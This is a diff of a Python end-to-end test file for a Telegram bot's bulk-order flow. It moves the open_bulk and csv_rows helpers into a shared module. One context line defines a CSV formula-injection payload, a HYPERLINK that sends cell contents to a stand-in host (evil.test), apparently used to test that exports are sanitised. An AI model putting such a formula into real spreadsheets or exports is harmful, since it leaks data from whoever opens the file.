@@ -18,7 +18,7 @@ from pathlib import Path
 from bot.callbacks.base import decode, encode
 from bot.callbacks.bulk import ConfirmBulk, ConfirmBulkFirst
 from bot.storage.models import SubmitState
-from tests.e2e.steps import confirm, dialog, labels, preview_for, text_of
+from tests.e2e.steps import confirm, csv_rows, dialog, labels, open_bulk, preview_for, text_of
 from tests.fakes.panel import Fault
 from tests.fakes.panel_catalog import default_services
 from tests.fakes.telegram import BotMessage, FakeUser
@@ -29,21 +29,9 @@ UID = 7301
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Instagram")'
 
 
-def csv_rows(msg: BotMessage) -> list[dict[str, str]]:
-    assert msg.document is not None, msg.describe()
-    return list(csv.DictReader(io.StringIO(msg.document.content.decode("utf-8-sig"))))
-
-
 def lines_of(n: int, *, service: int = 1, quantity: int = 100) -> list[str]:
     # Service 1 costs 12.50 per 1000: 100 each is 1.25 a line.
     return [f"{service} | https://instagram.com/u{i} | {quantity}" for i in range(n)]
-
-
-async def open_bulk(bot: Harness, *, balance: str) -> FakeUser:
-    u = await bot.member(UID, key=KEY, balance=balance)
-    await u.send("/bulk")
-    await u.reply()
-    return u
 
 
 async def preview_with_check(u: FakeUser, lines: list[str]) -> tuple[BotMessage, BotMessage]:
@@ -67,7 +55,7 @@ async def result_and_file(u: FakeUser) -> tuple[BotMessage, BotMessage]:
 
 
 async def test_short_balance_offers_the_first_n_and_places_exactly_those(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="5.00")
+    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
     preview, check = await preview_with_check(u, lines_of(150))
     text = text_of(preview)
     assert "150 valid orders of 150 lines" in text
@@ -115,7 +103,7 @@ async def test_short_balance_offers_the_first_n_and_places_exactly_those(bot: Ha
 
 
 async def test_short_balance_covering_nothing_offers_only_cancel(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1.00")
+    u = await open_bulk(bot, balance="1.00", uid=UID, key=KEY)
     await u.send("\n".join(lines_of(3)))
     preview = await u.reply()
     text = text_of(preview)
@@ -127,7 +115,7 @@ async def test_short_balance_covering_nothing_offers_only_cancel(bot: Harness) -
 
 
 async def test_forged_first_n_counts(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="5.00")
+    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
     await u.send("\n".join(lines_of(5)))
     preview = await u.reply()
     data = preview.buttons()[0][1]
@@ -154,7 +142,7 @@ async def test_forged_first_n_counts(bot: Harness) -> None:
 
 
 async def test_result_groups_identical_panel_errors(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1000")
+    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
     preview, _ = await preview_with_check(u, lines_of(150))
     # The balance drops after the preview: the panel refuses the first chunk of 100 whole.
     bot.panel.set_balance(KEY, "5.00")
@@ -180,7 +168,7 @@ async def test_result_groups_identical_panel_errors(bot: Harness) -> None:
 async def test_preview_of_more_than_ten_lines_lists_every_line_with_its_cost(
     bot: Harness,
 ) -> None:
-    u = await open_bulk(bot, balance="100")
+    u = await open_bulk(bot, balance="100", uid=UID, key=KEY)
     lines = [*lines_of(11), "6 | https://youtube.com/watch?v=x | 1000"]
     preview, check = await preview_with_check(u, lines)
     text = text_of(preview)
@@ -311,7 +299,7 @@ async def check_result_lists_rejected_lines(
 
 
 async def test_result_and_csv_list_lines_that_failed_the_check(bot: Harness) -> None:
-    u = await open_bulk(bot, balance="1000")
+    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
     preview, _ = await preview_with_check(u, mixed_list())
     assert "32 valid orders of 35 lines" in text_of(preview)
     await u.press("Confirm 32 valid orders", message=preview)
@@ -322,7 +310,7 @@ async def test_result_and_csv_list_lines_that_failed_the_check(bot: Harness) -> 
 
 async def test_rejected_lines_survive_a_restart_before_confirm(tmp_path: Path) -> None:
     async with running_bot(tmp_path) as bot:
-        u = await open_bulk(bot, balance="1000")
+        u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
         preview, _ = await preview_with_check(u, mixed_list())
         await bot.restart()
         await u.press("Confirm 32 valid orders", message=preview)
